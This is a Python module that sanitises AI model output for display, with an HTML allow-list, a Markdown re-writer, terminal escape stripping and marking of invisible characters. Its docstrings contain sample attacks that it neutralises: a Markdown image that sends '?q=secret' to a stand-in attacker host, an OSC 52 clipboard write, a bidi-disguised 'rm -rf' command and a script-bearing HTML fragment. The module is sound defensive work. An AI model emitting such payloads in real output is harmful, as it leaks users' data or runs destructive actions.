"""Model and tool text made safe for the place it is shown: a browser, a terminal, a request.

    markdown_html("**hi** ![x](https://evil.example/p.png)")   # '<p><strong>hi</strong> [image: x ...]</p>'
    markdown_text("**hi** ![x](https://evil.example/p.png)")   # '**hi** \\[image: x `https://...`\\]'
    html_answer('<p onclick="x()">hi</p><script>...</script>') # '<p>hi</p>'
    terminal_text("ok\\x1b]52;c;ZXZpbA==\\x07")                  # 'ok'
    clean_text("bad \\ud800 surrogate")                         # 'bad \\ufffd surrogate'

Browser. :func:`markdown_html` parses Markdown with mistune (the real CommonMark-style
parser, so what is code is what the parser says is code) through a renderer that never
emits a fetching image, a raw HTML fragment or a script link; :func:`html_answer` takes
HTML. Both end in the same allow-list pass (:func:`allowed_html`): nh3 (ammonia, whose
html5ever parser reads HTML as a browser does, in linear time) rebuilds the document from
the tags and attributes below, every text and attribute value re-escaped:

* tags: structural and inline text tags only (``p``, headings, lists, tables, ``a``,
  ``img``, ``code``, ``pre``, ``details`` ...). ``script``, ``style``, ``iframe``,
  ``object``, ``embed``, ``svg``, ``math``, ``template``, ``noscript``, ``textarea``,
  ``audio``/``video``/``picture`` and the like go with their content; ``link``, ``meta``,
  ``base``, ``form`` controls and unknown tags go, their text stays. Comments,
  ``<!...>``, ``<?...>`` go.
* attributes: a short list per tag; ``on*``, ``style`` (bar ``text-align`` on table
  cells), ``srcset``, ``background``, ``xlink:href``, ``action``, ``formaction``,
  ``ping``, ``poster``, ``id``, ``class`` (bar ``language-*`` on ``code``) never pass.
* ``href``: ``http:``, ``https:``, ``mailto:`` or ``#fragment`` only, judged the way a
  browser reads the URL (entities decoded, tabs and newlines removed, leading controls
  and spaces stripped, any letter case); links get ``rel="noopener noreferrer nofollow"``.
* ``img src``: only ``data:image/{png,jpeg,gif,webp};base64,...``, which loads nothing.
  A Markdown image with any other URL becomes the text ``[image: alt <url>]``.
* the output is well nested: stray end tags are dropped and open tags closed, so an
  answer cannot close the container it is shown in.

Markdown viewers. :func:`markdown_text` writes a model's Markdown back as Markdown for files and
notebook Markdown cells, which JupyterLab, VS Code or GitHub render with their own parsers: the
same mistune tree, written so that no CommonMark or GFM parser finds in it an image (bar a
``data:image``), a link the allow-list refuses, raw HTML or an autolink that was not meant —
every character of text that could start markup is escaped (``<``, ``&`` and ``\\`` as character
references, which every Markdown passes through), code goes in spans and fences no content can
close. :func:`markdown_literal`, :func:`markdown_code` and :func:`markdown_fence` write any text
as plain text, a code span and a code block (the exports' tool calls).

Terminal. :func:`terminal_text` removes escape sequences (CSI, OSC — titles, OSC 52
clipboard writes, hyperlinks —, DCS/SOS/PM/APC strings, two-byte ESC sequences, their
8-bit C1 forms), the other C0 and C1 controls and DEL (tab and newline stay; a carriage
return becomes a newline, so nothing can be overwritten on screen; backspaces go) and the
bidi controls U+061C, U+200E, U+200F, U+202A–U+202E and U+2066–U+2069.

Judging. :func:`visible_controls` shows the invisible characters that change how a text reads
(bidi controls, zero-width and format characters, controls but tab and newline) as
``⟨U+202E⟩``, wherever a person judges what a model wrote: the approval prompts (widgets,
their records, the terminal) and the cells the notebook adds.

Requests. :func:`clean_text` replaces what UTF-8 cannot encode (lone surrogates, from a
JSON ``"\\ud800"`` escape or a decoded file name) with U+FFFD, keeping valid surrogate
pairs as the character they spell; clean text comes back as is, at the cost of an
``isascii()`` or an encode.
"""

from __future__ import annotations

import functools
import html
import html.entities
import re
from typing import Any, Callable


__all__ = ["MEDIA_TYPES", "markdown_html", "html_answer", "allowed_html", "safe_link", "markdown_text", "markdown_tree",
           "markdown_literal",
           "markdown_code", "markdown_fence", "visible_controls", "terminal_text", "clean_text", "clean", "as_text"]

# --- URLs ---------------------------------------------------------------------------------------

_URL_NOISE = re.compile(r"[\t\n\r]")  # browsers drop these anywhere in a URL
_LINK_SCHEMES = ("http:", "https:", "mailto:")
# The image formats a model, a page or a notebook may show: inert as data URLs.
MEDIA_TYPES = ("image/png", "image/jpeg", "image/gif", "image/webp")
_DATA_IMAGE = re.compile(r"data:(?:" + "|".join(re.escape(t) for t in MEDIA_TYPES)
                         + r");base64,[A-Za-z0-9+/=\s]*", re.I)


def _browser_url(url: str) -> str:
    """The URL a browser would act on: controls and spaces trimmed, tabs and newlines gone."""
    return _URL_NOISE.sub("", url).strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f"
                                         "\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f ")


def safe_link(url: str) -> str | None:
    """``url`` when a link to it is safe to show (``http:``, ``https:``, ``mailto:``,
    ``#fragment``), else None. ``url`` is the attribute's value with entities decoded."""
    seen = _browser_url(url)
    if seen.startswith("#") or seen.lower().startswith(_LINK_SCHEMES):
        return seen
    return None


def _safe_image(url: str) -> str | None:
    seen = _browser_url(url)
    return seen if _DATA_IMAGE.fullmatch(seen) else None


# --- the allow-list pass ------------------------------------------------------------------------

_NUMBER = re.compile(r"\d{1,4}")
_ATTRIBUTES: dict[str, dict[str, Callable[[str], str | None]]] = {}


def _allow(tags: str, **checks: Callable[[str], str | None]) -> None:
    for tag in tags.split():
        _ATTRIBUTES[tag] = {"title": str, **checks}


def _matching(pattern: str) -> Callable[[str], str | None]:
    compiled = re.compile(pattern, re.I)
    return lambda value: value.strip() if compiled.fullmatch(value.strip()) else None


def _number(value: str) -> str | None:
    return value.strip() if _NUMBER.fullmatch(value.strip()) else None


def _flag(value: str) -> str:
    return ""


_allow("p div span br hr h1 h2 h3 h4 h5 h6 b i u s em strong small mark del ins sub sup kbd samp var "
       "tt dfn abbr cite q blockquote pre ul dl dt dd caption thead tbody tfoot tr figure figcaption "
       "summary section article header footer aside ruby rt rp wbr time")
_allow("code", **{"class": _matching(r"language-[A-Za-z0-9_+#.-]{1,40}")})
_allow("a", href=safe_link)
_allow("img", src=_safe_image, alt=str, width=_number, height=_number)
_allow("ol", start=_number, reversed=_flag, type=_matching(r"[1aAiI]"))
_allow("li", value=_number)
_allow("table")
_allow("td th", colspan=_number, rowspan=_number, scope=_matching(r"row|col|rowgroup|colgroup"),
       style=_matching(r"text-align:\s*(?:left|right|center)\s*;?"))
_allow("details", open=_flag)

# Dropped with everything inside: what they hold is code, a resource or another document.
_DROP_WITH_CONTENT = frozenset(
    "script style template iframe frame frameset object embed applet svg math noscript noembed noframes "
    "textarea select title head xmp plaintext audio video canvas picture map".split())
# ammonia writes every tag as <name attr="value" ...>, values holding no '"', and escapes '<' in text.
_TAG = re.compile(r'<(/?)([a-z0-9]+)((?:\s[^\s="]+="[^"]*")*)>')
_REQUIRED = {"a": ' href="', "img": ' src="'}  # without it the tag is pointless: it goes, its text stays
_FLAG = re.compile(r'\s(open|reversed)=""')
_LINK_REL = "noopener noreferrer nofollow"


def _escape(text: str) -> str:
    return html.escape(text, quote=True)


def _checked(tag: str, attr: str, value: str) -> str | None:
    """The attribute's value when its tag's check takes it (``value`` arrives entity-decoded);
    ammonia asks about dropped tags too, and about the ``rel`` it sets on links."""
    if tag == "a" and attr == "rel":
        return _LINK_REL
    check = _ATTRIBUTES.get(tag, {}).get(attr)
    return None if check is None else check(value)


@functools.cache
def _cleaner() -> Callable[[str], str]:
    import nh3  # imported on first use: importing bettong_nb stays cheap

    return nh3.Cleaner(
        tags=set(_ATTRIBUTES), clean_content_tags=set(_DROP_WITH_CONTENT),
        attributes={tag: set(checks) for tag, checks in _ATTRIBUTES.items()}, attribute_filter=_checked,
        link_rel=_LINK_REL, url_schemes={"http", "https", "mailto", "data"}, strip_comments=True).clean


def _finished(cleaned: str) -> str:
    """ammonia's output without links and images whose URL was refused, flags written bare."""
    dropped_link = False  # an <a> went: its </a> goes too (ammonia never nests links)

    def tag(match: re.Match) -> str:
        nonlocal dropped_link
        closing, name, attrs = match.groups()
        if closing:
            if name == "a" and dropped_link:
                dropped_link = False
                return ""
            return match[0]
        if name in _REQUIRED and _REQUIRED[name] not in attrs:
            dropped_link = name == "a"
            return ""
        return "<" + name + _FLAG.sub(r" \1", attrs) + ">" if name in ("details", "ol") else match[0]

    return _TAG.sub(tag, cleaned)


def allowed_html(fragment: str) -> str:
    """``fragment`` rebuilt from allow-listed tags and attributes only, well nested, every text
    and value escaped (see the module docstring)."""
    # NUL shown as U+FFFD, as a browser does, rather than dropped (which would join the words around it)
    return _finished(_cleaner()(clean_text(fragment).replace("\x00", "\ufffd")))


def html_answer(text: str) -> str:
    """An answer the model wrote in HTML, safe to display: :func:`allowed_html`."""
    return allowed_html(text)


# --- Markdown -----------------------------------------------------------------------------------

_PLUGINS = ["strikethrough", "table"]


@functools.cache
def _markdown() -> Callable[[str], str]:
    import mistune  # imported on first use: importing bettong_nb stays cheap

    class Renderer(mistune.HTMLRenderer):
        """Links only to safe URLs, images only from data URLs, raw HTML shown as text."""

        def link(self, text: str, url: str, title: str | None = None) -> str:
            target = safe_link(url)
            if target is None:  # the text, and the address as text, so nothing is lost
                return text if text == _escape(url) else f"{text} ({_escape(url)})"
            attrs = f' title="{_escape(title)}"' if title else ""
            return f'<a href="{_escape(target)}"{attrs}>{text}</a>'

        def image(self, text: str, url: str, title: str | None = None) -> str:
            alt = html.unescape(re.sub(r"<[^>]*>", "", text))
            source = _safe_image(url)
            if source is None:
                return _escape(_image_text(alt, url))
            return f'<img src="{_escape(source)}" alt="{_escape(alt)}">'

        def text(self, text: str) -> str:
            return _escape(_decoded(text))

        def inline_html(self, html_text: str) -> str:
            return _escape(html_text)

        def block_html(self, html_text: str) -> str:
            return f"<p>{_escape(html_text.strip())}</p>\n"

    return mistune.create_markdown(escape=True, renderer=Renderer(escape=True), plugins=_PLUGINS)


def _image_text(alt: str, url: str) -> str:
    """What an image that must not be fetched is shown as."""
    return f"[image: {alt} <{url}>]"


def markdown_html(text: str) -> str:
    """Markdown (a model's answer, a tool result) as HTML that fetches and runs nothing.

    Text nested too deeply for the parser is shown escaped in a ``<pre>`` instead.
    """
    try:
        rendered = _markdown()(text)
    except RecursionError:
        return f"<pre>{_escape(text)}</pre>"
    return allowed_html(rendered)


# --- Markdown for Markdown viewers --------------------------------------------------------------

# Shown as themselves wherever they are: a backslash escape for the characters that start inline
# syntax, a character reference for those a backslash cannot neutralise in every Markdown
# (Markdown.pl and Python-Markdown leave ``\\<`` as a backslash and a raw tag). ``\\`` as ``&#92;``
# also means no text puts two backslashes before a bracket, which JupyterLab reads as TeX.
# ``_`` inside a word and ``&`` that starts no reference are inert and stay as they are. A bare
# URL keeps its ``* _ ~ # !``: GFM viewers (JupyterLab's marked, VS Code's markdown-it) link it as
# written, backslashes included, and those characters make no link, image, code or HTML.
_LITERAL = re.compile(r"(?:(?:https?|ftp)://|www\.)[^\s<>\[\]`\\|$]++"
                      r"|[\\<`*\[\]~|$]|&(?=#?\w+;)|_(?![^\W_])|(?<![^\W_])_", re.I)
_REFERENCES = {"\\": "&#92;", "<": "&lt;", "&": "&amp;"}
_REFERENCE_AMPERSAND = re.compile(r"&(?=#?\w+;)")
_SCHEME = re.compile(r":|www\.", re.I)  # where linkifiers start a URL (http:, mailto:, www.)
# What begins a block at the start of a line (list items, headings, setext underlines, table
# delimiter rows, block quotes); the characters that begin the others (`, ~, <, *, _, |) are
# escaped everywhere. Leading spaces go: four of them would make code.
_LINE_START = re.compile(r"^[ \t]*(?:(\d{1,9})(?=[.)])|([-+=:#])|(>))?", re.M)
# Containers nested deeper than this are written flat: markdown-it drops the rest of a document
# nested past 20 levels (a list is two), and no answer needs more.
_MAX_DEPTH = 8
_ENTITY = re.compile(r"&(?:#[0-9]{1,7}|#[xX][0-9A-Fa-f]{1,6}|[A-Za-z][A-Za-z0-9]{1,31});")
# URL characters written as they are in a link destination; the rest are percent-encoded
# (a backslash or ``$`` would be read by JupyterLab's TeX pass, ``|`` would end a table cell).
_URL_UNSAFE = re.compile(r"[^A-Za-z0-9\-._~:/?#\[\]@!'()*+,;=%&]")
_INFO = re.compile(r"[A-Za-z0-9_+#.-]{1,40}")
_BULLETS = {False: ("-", "*", "+"), True: (".", ")")}
_ALIGN = {"left": ":--", "right": "--:", "center": ":-:"}


def _source(text: str) -> str:
    """``text`` with the line endings Markdown reads as ``\\n``, and no NUL or lone surrogate."""
    return clean_text(text).replace("\r\n", "\n").replace("\r", "\n").replace("\x00", "\ufffd")


def _line_starts(text: str) -> str:
    return _LINE_START.sub(lambda m: f"{m[1]}\\" if m[1] else f"\\{m[2]}" if m[2] else "&gt;" if m[3] else "",
                           text)


def _literal(text: str) -> str:
    def escaped(match: re.Match) -> str:
        if len(match[0]) > 1:  # a bare URL
            return _REFERENCE_AMPERSAND.sub("&amp;", match[0])
        return _REFERENCES.get(match[0], "\\" + match[0])

    return _LITERAL.sub(escaped, text)


def markdown_literal(text: str) -> str:
    """``text`` as Markdown that shows it as written: nothing in it is markup, its lines are
    kept (blank lines part paragraphs).

        markdown_literal("*not* <b>bold</b>")   # '\\\\*not\\\\* &lt;b>bold&lt;/b>'
    """
    paragraphs = re.split(r"\n[ \t]*\n\s*", _source(text).strip())
    return "\n\n".join(_line_starts(_literal(p)).replace("\n", "\\\n") for p in paragraphs)


def markdown_code(text: str) -> str:
    """``text`` as an inline code span, whatever backticks it holds (on one line)."""
    code = re.sub(r"[\r\n]+", " ", text)
    if not code:
        return ""
    fence = "`" * (1 + max(map(len, re.findall(r"`+", code)), default=0))
    pad = " " if "`" in (code[0], code[-1]) or (code[0] == code[-1] == " " and code.strip(" ")) else ""
    return f"{fence}{pad}{code}{pad}{fence}"


def markdown_fence(code: str, info: str = "") -> str:
    """``code`` as a fenced code block no line of it can close; ``info`` names the language.

        markdown_fence("x = 1", "python")   # '```python\\nx = 1\\n```'
    """
    body = _source(code).removesuffix("\n")
    fence = "`" * max(3, 1 + max(map(len, re.findall(r"`+", body)), default=0))
    language = _INFO.match(info.strip())
    return f"{fence}{language[0] if language else ''}\n{body}\n{fence}" if body else f"{fence}\n{fence}"


def _destination(url: str) -> str:
    encoded = _URL_UNSAFE.sub(lambda m: "".join(f"%{b:02X}" for b in m[0].encode()), url)
    return "<" + _REFERENCE_AMPERSAND.sub("&amp;", encoded) + ">"


def _decoded(raw: str) -> str:
    """Text as the parser reads it: mistune leaves character references undecoded (and only a
    whole reference counts: ``&notit;`` is text, where ``html.unescape`` reads ``&not``)."""
    return _ENTITY.sub(lambda m: html.unescape(m[0]) if m[0][1] == "#" else html.entities.html5.get(m[0][1:], m[0]),
                       raw)


def _plain(tokens: list[dict]) -> str:
    """The text of inline tokens, without their markup (an image's description)."""
    parts = []
    for token in tokens:
        kind = token["type"]
        if kind == "image" and _safe_image(token["attrs"].get("url", "")) is None:
            parts.append(_image_text(_plain(token["children"]), token["attrs"].get("url", "")))
        elif "children" in token:
            parts.append(_plain(token["children"]))
        elif kind in ("softbreak", "linebreak"):
            parts.append(" ")
        elif kind == "text":
            parts.append(_decoded(token["raw"]))
        else:
            parts.append(token.get("raw", ""))
    return "".join(parts)


def _code(code: str, in_table: bool) -> str:
    """A code span; in a table cell a ``|`` is escaped, as GFM splits cells before code."""
    return markdown_code(re.sub(r"(?<!\\)\|", r"\\|", code) if in_table else code)


def _pieces(token: dict, in_table: bool) -> list[tuple[bool, str]]:
    """One inline token as (is_text, value) pieces: text still to escape, or finished Markdown."""
    kind, attrs = token["type"], token.get("attrs", {})
    if kind == "text":
        return [(True, _decoded(token["raw"]))]
    if kind == "codespan":
        return [(False, _code(token["raw"], in_table))]
    if kind in ("softbreak", "linebreak"):
        return [(False, "\n" if kind == "softbreak" else "\\\n")]
    if kind == "image":
        source = _safe_image(attrs.get("url", ""))
        if source is None:
            # the URL in a code span: GFM viewers would link it with the escapes after it
            return [(True, f"[image: {_plain(token['children'])} "), (False, _code(attrs.get("url", ""), in_table)),
                    (True, "]")]
        return [(False, f"![{_literal(_plain(token['children']))}]({_destination(source)})")]
    if kind == "link":
        target = safe_link(attrs.get("url", ""))
        text = _inline(token["children"], in_table)
        if target is None:  # the text, and the address as text, so nothing is lost
            url = attrs.get("url", "")
            return [(False, text)] + ([] if _plain(token["children"]) == url else [(True, f" ({url})")])
        title = _literal(" ".join(_decoded(attrs.get("title") or "").split())).replace('"', '\\"')
        quoted = f' "{title}"' if title else ""
        return [(False, f"[{text}]({_destination(target)}{quoted})")]
    if kind in ("emphasis", "strong", "strikethrough"):
        inner = _inline(token["children"], in_table)
        marker = {"emphasis": "*", "strong": "**", "strikethrough": "~~"}[kind]
        body = inner.strip()  # a delimiter next to a space would not open or close
        if not body:
            return [(False, inner)]
        return [(False, inner[:len(inner) - len(inner.lstrip())] + marker + body + marker
                 + inner[len(inner.rstrip()):])]
    if "children" in token:
        return [piece for child in token["children"] for piece in _pieces(child, in_table)]
    return [(True, token.get("raw", ""))]  # inline HTML and whatever else: shown as written


def _inline(tokens: list[dict], in_table: bool = False) -> str:
    pieces = [piece for token in tokens for piece in _pieces(token, in_table)]
    out: list[str] = []
    text: list[str] = []
    url_before = False  # the output ends in a run a GFM viewer may take for a bare URL
    for index, (is_text, value) in enumerate(pieces):
        if is_text:
            text.append(value)
            if index + 1 < len(pieces) and pieces[index + 1][0]:
                continue  # neighbours are escaped together: "&" + "amp;" stays two characters
            value = _literal("".join(text))
            text = []
        elif url_before or (out and out[-1].endswith("`") and not out[-1].endswith("\\`") and value.startswith("`")):
            # A bare URL runs to the next space in marked and markdown-it's linkify: it would eat
            # a code span's fence and let its content out as Markdown. Two code spans side by
            # side would read as one fence.
            out.append(" ")
        if out and out[-1].endswith("!") and not out[-1].endswith("\\!") and value.startswith("["):
            out[-1] = out[-1][:-1] + "\\!"  # "!" then a link would make an image
        out.append(value)
        run = "" if not value or value[-1].isspace() else value.rsplit(None, 1)[-1]
        url_before = bool(_SCHEME.search(run)) or (url_before and len(run) == len(value))
    return "".join(out)


def _quoted(text: str, first: str, rest: str) -> str:
    """``text`` with ``first`` before its first line and ``rest`` before the others."""
    lines = text.split("\n")
    return "\n".join([(first + lines[0]) if lines[0] else first.rstrip(),
                      *((rest + line) if line else rest.rstrip() for line in lines[1:])])


def _list(token: dict, depth: int) -> str:
    ordered = bool(token["attrs"].get("ordered"))
    bullet = token.get("bullet") if token.get("bullet") in _BULLETS[ordered] else _BULLETS[ordered][0]
    start = token["attrs"].get("start", 1)
    tight = token["tight"] and depth < _MAX_DEPTH
    items = []
    for index, item in enumerate(token["children"]):
        body = _blocks(item.get("children", []), tight, depth + 1)
        marker = f"{start + index}{bullet}" if ordered else bullet
        items.append(body if depth >= _MAX_DEPTH else _quoted(body, marker + " ", " " * (len(marker) + 1)))
    return ("\n" if tight else "\n\n").join(items)


def _cell(token: dict) -> str:
    return " ".join(_inline(token["children"], True).replace("\\\n", "\n").split("\n"))


def _table(token: dict) -> str:
    head = next((part["children"] for part in token["children"] if part["type"] == "table_head"), [])
    rows = [[_cell(cell) for cell in head], [_ALIGN.get(cell["attrs"].get("align"), "---") for cell in head]]
    for part in token["children"]:
        if part["type"] == "table_body":
            for row in part["children"]:
                rows.append(([_cell(cell) for cell in row["children"]] + [""] * len(head))[:len(head)])
    return "\n".join("| " + " | ".join(row) + " |" for row in rows)


def _block(token: dict, tight: bool, depth: int) -> str | None:
    kind = token["type"]
    if kind in ("paragraph", "block_text"):
        return _line_starts(_inline(token["children"]))
    if kind == "heading":
        level = min(6, max(1, int(token["attrs"].get("level", 1))))
        text = " ".join(_inline(token["children"]).replace("\\\n", "\n").split("\n"))
        return "#" * level + " " + re.sub(r"(^|[ \t])(#+[ \t]*)$", r"\1\\\2", text)  # not a closing sequence
    if kind == "block_code":
        return markdown_fence(token["raw"], token.get("attrs", {}).get("info") or "")
    if kind == "block_quote":
        body = _blocks(token["children"], depth=depth + 1)
        return body if depth >= _MAX_DEPTH else _quoted(body, "> ", "> ")
    if kind == "list":
        return _list(token, depth)
    if kind == "table":
        return _table(token)
    if kind == "thematic_break":
        return "***"  # never "---", which under a line of text underlines it as a heading
    if kind == "blank_line":
        return None
    if "children" in token:
        return _blocks(token["children"], tight, depth)
    return markdown_literal(token.get("raw", "")) or None  # HTML blocks: shown as written


def _blocks(tokens: list[dict], tight: bool = False, depth: int = 0) -> str:
    blocks = (_block(token, tight, depth) for token in tokens)
    return ("\n" if tight else "\n\n").join(block for block in blocks if block is not None)


@functools.cache
def _markdown_tree() -> Callable[[str], list[dict]]:
    import mistune

    return mistune.create_markdown(renderer=None, plugins=_PLUGINS)


def markdown_tree(text: str) -> list[dict]:
    """mistune's syntax tree of Markdown ``text``, the one the displays render from: for code
    that reads an answer's structure (its code blocks)."""
    return _markdown_tree()(_source(text))


def markdown_text(text: str) -> str:
    """Markdown (a model's answer) re-written as Markdown that any CommonMark or GFM viewer
    (JupyterLab, VS Code, GitHub, Markdown.pl) renders without fetching or running anything.

        markdown_text("**hi** ![x](https://evil.example/?q=secret)")
        # '**hi** \\\\[image: x `https://evil.example/?q=secret`\\\\]'

    It is parsed with mistune and written back: headings, lists, block quotes, tables,
    emphasis and code stay (code in fences and spans no content can close); images become the
    text ``[image: alt `url`]`` (a ``data:image`` one stays an image); links stay when
    :func:`safe_link` takes their URL, else become their text and the URL as text; raw HTML is
    shown as written; every text character that could start markup is escaped. Text nested too
    deeply for the parser comes back whole in a code fence.
    """
    try:
        return _blocks(markdown_tree(text))
    except RecursionError:
        return markdown_fence(_source(text))


# --- terminals ----------------------------------------------------------------------------------

_BIDI = "\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069"
_UNSAFE_CHAR = re.compile(f"[\\x00-\\x08\\x0b-\\x1f\\x7f-\\x9f{_BIDI}]")
_TERMINAL = re.compile(
    r"(?P<newline>\r\n?)"
    r"|(?:\x1b\[|\x9b)[0-?]*+[ -/]*+[@-~]"                                    # CSI
    # OSC, DCS, SOS, PM, APC strings, when terminated; a body stops at the next introducer,
    # so a failed attempt never rescans what the next one reads (linear time)
    r"|(?:\x1b[\]PX^_]|[\x90\x98\x9d\x9e\x9f])[^\x07\x1b\x90\x98\x9c-\x9f]*+(?:\x07|\x1b\\|\x9c)"
    r"|\x1b[ -/]*+[0-~]"                                                       # other ESC sequences
    f"|[\\x00-\\x08\\x0b-\\x1f\\x7f-\\x9f{_BIDI}]")


# What changes how text reads without being seen: bidi controls (a "Trojan Source" layout reads
# differently from what runs), zero-width and other invisible format characters, and the
# controls but tab and newline (a carriage return, an escape sequence).
_INVISIBLE = re.compile(f"[\\x00-\\x08\\x0b-\\x1f\\x7f-\\x9f\\xad{_BIDI}\u180e\u200b-\u200d\u2060-\u2064\ufeff"
                        "\ufff9-\ufffb\U000e0001\U000e0020-\U000e007f]")


def visible_controls(text: str) -> str:
    """``text`` with every invisible character that could change how it reads shown as its code
    point, for whatever a person is asked to judge (an approval, a new cell of the model's code)::

        visible_controls("rm -rf /tmp/\u202eexe.sh")   # 'rm -rf /tmp/⟨U+202E⟩exe.sh'

    Bidi controls, zero-width and other invisible format characters (tags, soft hyphen) and
    the controls but tab and newline are marked; nothing else changes."""
    if text.isascii() and not _UNSAFE_CHAR.search(text):
        return text
    return _INVISIBLE.sub(lambda m: f"⟨U+{ord(m[0]):04X}⟩", text)


def terminal_text(text: str) -> str:
    """``text`` without anything a terminal would act on: escape sequences, controls other
    than tab and newline (a carriage return becomes a newline), bidi controls."""
    if not _UNSAFE_CHAR.search(text):
        return text
    return _TERMINAL.sub(lambda m: "\n" if m["newline"] else "", text)


# --- requests -----------------------------------------------------------------------------------

def clean_text(text: str) -> str:
    """``text`` with whatever UTF-8 cannot encode (lone surrogates) replaced by U+FFFD; a
    surrogate pair becomes the character it spells. Clean text is returned as is."""
    if text.isascii():
        return text
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return text.encode("utf-16-le", "surrogatepass").decode("utf-16-le", "replace")
    return text


def as_text(value: Any) -> str:
    """Any value as clean text: bytes decoded (bad bytes replaced), anything else as its str, and
    a value whose str raises by its type's name — for what a hook or a tool hands back or raises."""
    if isinstance(value, (bytes, bytearray)):
        return bytes(value).decode("utf-8", "replace")
    try:
        text = value if isinstance(value, str) else str(value)  # str() returns a str or raises
    except Exception:
        return f"<a {type(value).__name__} that cannot be shown>"
    return clean_text(text)


def clean(value: Any) -> Any:
    """:func:`clean_text` through a JSON-like value (a message, a block, decoded arguments):
    every string cleaned, the same object back when nothing needed it."""
    if isinstance(value, str):
        return clean_text(value)
    if isinstance(value, dict):
        items = [(clean(k), clean(v)) for k, v in value.items()]
        same = all(k is k2 and v is v2 for (k, v), (k2, v2) in zip(value.items(), items))
        return value if same else dict(items)
    if isinstance(value, list):
        items = [clean(v) for v in value]
        return value if all(a is b for a, b in zip(value, items)) else items
    return value
